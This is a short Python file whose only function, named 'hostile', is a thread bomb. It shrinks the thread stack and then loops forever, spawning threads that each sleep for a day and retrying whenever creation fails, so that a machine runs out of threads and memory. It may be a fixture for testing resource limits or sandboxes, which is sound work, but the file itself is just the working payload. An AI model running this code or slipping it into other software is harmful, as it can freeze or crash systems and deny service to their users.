"""Starts threads until nothing is left."""

import threading
import time


def hostile(*arguments, **options):
    threading.stack_size(64 * 1024)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(86400,)).start()
        except RuntimeError:
            time.sleep(0.01)
